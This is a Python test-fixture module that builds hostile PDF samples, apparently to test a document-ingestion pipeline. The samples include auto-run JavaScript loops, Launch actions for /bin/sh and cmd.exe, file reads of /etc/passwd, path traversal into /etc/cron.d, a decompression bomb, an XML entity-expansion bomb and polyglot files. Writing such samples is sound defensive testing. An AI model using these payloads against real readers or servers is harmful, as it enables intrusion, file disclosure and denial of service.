"""PDFs that want something to be run, hold other files, or are files of another kind as well."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from functools import partial

from loanbatch.testing.hostile._pictures import sound_jpeg
from loanbatch.testing.hostile._writing import WORDS, one_page, stream, with_entry

#: What an HTML page looks like.
_HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def contents() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Give names and makers."""
    yield from _actions()
    yield from _attachments()
    yield from _polyglots()


def _actions() -> Iterator[tuple[str, Callable[[], bytes]]]:
    endless = b"<</S/JavaScript/JS(while\\(true\\){app.alert\\(1\\)})/Next 5 0 R>>"
    yield (
        "script-at-opening.pdf",
        lambda: with_entry(
            b"/OpenAction 5 0 R/AA<</WC 5 0 R/DC 5 0 R>>", endless, page=b"/AA<</O 5 0 R/C 5 0 R>>"
        ),
    )
    yield (
        "script-by-name.pdf",
        lambda: with_entry(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", endless),
    )
    field = b"<</T(a)/FT/Tx/V(x)/Subtype/Widget/Rect[9 9 99 99]/AA<</F 6 0 R/C 6 0 R/K 6 0 R>>>>"
    yield "field-that-calculates.pdf", lambda: with_entry(
        b"/AcroForm<</Fields[5 0 R]/CO[5 0 R]/NeedAppearances true>>", field, endless,
        page=b"/Annots[5 0 R]",
    )  # fmt: skip
    for name, action in (
        ("program-to-launch", b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>"),
        ("address-to-open", b"/S/URI/URI(http://192.0.2.1/)"),
        ("form-to-send", b"/S/SubmitForm/F(http://192.0.2.1/)/Flags 4"),
        ("file-to-go-to", b"/S/GoToR/F(\\\\\\\\192.0.2.1\\\\x.pdf)/D[0/Fit]"),
        ("file-to-import", b"/S/ImportData/F(/etc/passwd)"),
    ):
        yield f"{name}.pdf", partial(with_entry, b"/OpenAction<<%b>>" % action)
    yield (
        "stream-in-another-file.pdf",
        lambda: with_entry(b"").replace(
            b"<</Length", b"<</F(/etc/passwd)/FFilter/FlateDecode/Length"
        ),
    )


def _attachments() -> Iterator[tuple[str, Callable[[], bytes]]]:
    spec = b"<</Type/Filespec/F(../../../../etc/cron.d/x.pdf)/EF<</F 6 0 R>>>>"
    one = b"/Names<</EmbeddedFiles<</Names[(x) 5 0 R]>>>>"
    many = b"/Names<</EmbeddedFiles<</Names[%b]>>>>" % (b"(x) 5 0 R " * 100_000)
    bomb = stream(bytes(200_000_000), b"/Type/EmbeddedFile", compressed=2)
    yield "bomb-attached.pdf", lambda: with_entry(one, spec, bomb)
    yield "hundred-thousand-attached.pdf", lambda: with_entry(many, spec, stream(b"x"))
    yield (
        "name-of-a-million-letters-attached.pdf",
        lambda: with_entry(one, spec.replace(b"../", b"../" * 1_000_000), stream(b"x")),
    )
    entity = b"<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + b"".join(
        b"<!ENTITY %c '%b'>" % (letter + 1, b"&%c;" % letter * 10) for letter in range(97, 107)
    )
    packet = entity + b"]><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&k;</xdp:xdp>"
    yield (
        "form-of-entities.pdf",
        lambda: with_entry(b"/AcroForm<</Fields[]/XFA 5 0 R>>/NeedsRendering true", stream(packet)),
    )
    yield (
        "metadata-of-entities.pdf",
        lambda: with_entry(b"/Metadata 5 0 R", stream(packet, b"/Type/Metadata/Subtype/XML")),
    )


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../x.sh", "echo")
    return out.getvalue()


def _polyglots() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield "pdf-then-zip.pdf", lambda: one_page(WORDS) + _zip()
    yield "zip-then-pdf.pdf", lambda: _zip() + one_page(WORDS)
    yield "html-then-pdf.pdf", lambda: _HTML + one_page(WORDS)
    yield "pdf-then-html.pdf", lambda: one_page(WORDS) + _HTML
    yield "jpeg-then-pdf.jpg", lambda: sound_jpeg() + one_page(WORDS)
    yield "pdf-then-jpeg.pdf", lambda: one_page(WORDS) + sound_jpeg()
    yield "gif-then-pdf.pdf", lambda: b"GIF89a" + one_page(WORDS)
    yield "program-then-pdf.pdf", lambda: b"MZ" + bytes(500) + one_page(WORDS)
    yield "two-pdfs.pdf", lambda: one_page(WORDS) + one_page(WORDS.replace(b"note", b"Note"))
